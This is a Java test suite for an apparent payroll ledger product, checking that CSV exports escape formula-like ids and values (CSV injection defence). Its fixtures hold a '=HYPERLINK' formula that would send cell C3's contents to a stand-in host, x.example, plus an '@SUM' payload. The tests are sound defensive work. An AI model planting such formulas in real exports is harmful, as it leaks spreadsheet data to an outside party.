package org.promiseledger.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.stream.Stream;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.promiseledger.integrity.IntegrityReviews;
import org.promiseledger.runs.RunRegistry;
import org.promiseledger.support.ReviewedSignals;
import org.junit.jupiter.api.io.TempDir;
import org.promiseledger.period.Period;
import org.promiseledger.rules.RuleSetCompiler;
import org.promiseledger.runs.AdjustmentBooking;
import org.promiseledger.runs.QuarterlyRunner;
import org.promiseledger.runs.RunApproval;
import org.promiseledger.runs.RunOutcome;
import org.promiseledger.support.CsvFiles;
import org.promiseledger.support.RulesCopy;
import org.promiseledger.workbench.Simulation;
import org.springframework.batch.test.JobRepositoryTestUtils;
import org.springframework.batch.test.context.SpringBatchTest;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.annotation.DirtiesContext;

/**
 * Ids and rejected values that a spreadsheet would run as formulas come out of every CSV the product writes (payouts,
 * rejects, metrics, payroll, simulation diff; the web downloads are these same files) with a leading ', while money
 * stays a plain number and the stored values are unchanged. On H2 and MariaDB.
 */
@SpringBatchTest
@SpringBootTest(properties = {"promise-ledger.cli.enabled=false", "promise-ledger.min-sample=3",
        "promise-ledger.reject-limit-percent=100"})
abstract class CsvInjectionFunctionalTests {

    static final Period Q3 = Period.parse("2026-Q3");
    static final Path SMALL = Path.of("src/test/resources/jobs/small/input");
    static final String HYPERLINK = "=HYPERLINK(\"http://x.example/?q=\"&C3,\"E13\")";
    static final String SUM = "@SUM(9+1)";

    @Autowired
    QuarterlyRunner runner;

    @Autowired
    CsvExports exports;

    @Autowired
    PayrollExport payroll;

    @Autowired
    RunApproval approval;

    @Autowired
    AdjustmentBooking adjustments;

    @Autowired
    Simulation simulation;

    @Autowired
    RuleSetCompiler compiler;

    @Autowired
    JdbcTemplate jdbc;

    @Autowired
    IntegrityReviews integrity;

    @Autowired
    RunRegistry registry;

    @Autowired
    JobRepositoryTestUtils jobRepositoryTestUtils;

    @TempDir
    Path temp;

    long runId;

    @BeforeEach
    void runACompanyWithFormulaLikeIds() throws IOException {
        Path input = temp.resolve("input");
        Files.createDirectories(input);
        try (Stream<Path> files = Files.list(SMALL)) {
            for (Path f : files.toList()) {
                Files.copy(f, input.resolve(f.getFileName().toString()));
            }
        }
        append(input.resolve("employees.csv"), "@SUM(9+1),Sam Formula,D3,STAFF,10000.00,10,\n");
        append(input.resolve("surveys.csv"), "R990,C01,\"=HYPERLINK(\"\"http://x.example/?q=\"\"&C3,\"\"E13\"\")\","
                + "2026-08-01T10:00:00Z,9,4,2\n");
        RunOutcome outcome = runner.run(Q3, input, Path.of("rules"), "hr.alice");
        assertThat(outcome.exitCode()).as(String.join("\n", outcome.messages())).isZero();
        runId = outcome.runId();
    }

    @AfterEach
    void cleanJobExecutions() {
        jobRepositoryTestUtils.removeJobExecutions();
    }

    @Test
    void payoutsExportNeutralisesAFormulaLikeEmployeeIdAndKeepsTheStoredId() throws IOException {
        exports.payouts(Q3, temp.resolve("payouts.csv"));

        assertThat(CsvFiles.rows(temp.resolve("payouts.csv"), "employee_id", "role")).startsWith("'@SUM(9+1),STAFF", "E1,EXECUTIVE");
        assertThat(jdbc.queryForObject("SELECT COUNT(*) FROM payout WHERE run_id = ? AND employee_id = ?", Integer.class,
                runId, SUM)).isEqualTo(1);
    }

    @Test
    void rejectsExportNeutralisesAFormulaLikeRejectedValueAndKeepsTheStoredValue() throws IOException {
        exports.rejects(Q3, temp.resolve("rejects.csv"));

        assertThat(CsvFiles.rows(temp.resolve("rejects.csv"), "file", "line", "column", "reason", "value"))
                .contains("surveys.csv,71,touchpoint_id,UNKNOWN_REFERENCE,'" + HYPERLINK);
        assertThat(jdbc.queryForObject("SELECT raw_value FROM input_reject WHERE run_id = ? AND line_no = 71", String.class,
                runId)).isEqualTo(HYPERLINK);
    }

    @Test
    @DirtiesContext(methodMode = DirtiesContext.MethodMode.AFTER_METHOD) // the period is exported: the next test needs a fresh database
    void payrollNeutralisesTheIdAndKeepsANegativeNetAPlainNumber() throws IOException {
        ReviewedSignals.clearAll(integrity, registry, Q3, "auditor.ann");
        assertThat(approval.approve(Q3, "hr.bob").exitCode()).isZero();
        BigDecimal paid = jdbc.queryForObject("SELECT amount FROM payout WHERE run_id = ? AND employee_id = ?", BigDecimal.class,
                runId, SUM);
        String clawback = paid.add(new BigDecimal("759.98")).negate().toPlainString();
        assertThat(adjustments.book(Q3, SUM, clawback, "overpaid", "hr.bob").exitCode()).isZero();

        assertThat(payroll.export(Q3, temp.resolve("payroll.csv"), "hr.bob").exitCode()).isZero();

        assertThat(Files.readAllLines(temp.resolve("payroll.csv"))).element(1).asString()
                .startsWith("2026-Q3,'@SUM(9+1),-759.98,EUR,");
    }

    @Test
    void simulationDiffNeutralisesIdsAndRuleChangesButNotNegativeDeltas() throws Exception {
        Path candidate = RulesCopy.of(temp.resolve("rules"));
        RulesCopy.setCell(candidate.resolve("role-weights.drl.xlsx"), "D12", "0.40");
        RulesCopy.setCell(candidate.resolve("role-weights.drl.xlsx"), "F12", "0.40");

        simulation.write(simulation.simulate(Q3, compiler.compile(candidate)), temp.resolve("diff.csv"));

        assertThat(CsvFiles.rows(temp.resolve("diff.csv"), "employee_id", "delta")).contains("E10,-155.00")
                .anySatisfy(r -> assertThat(r).startsWith("'@SUM(9+1),"));
        assertThat(CsvFiles.rows(temp.resolve("diff.csv"), "rules_changed")).allSatisfy(r -> assertThat(r).doesNotStartWith("+"));
    }

    private static void append(Path file, String text) throws IOException {
        Files.writeString(file, text, StandardCharsets.UTF_8, StandardOpenOption.APPEND);
    }
}
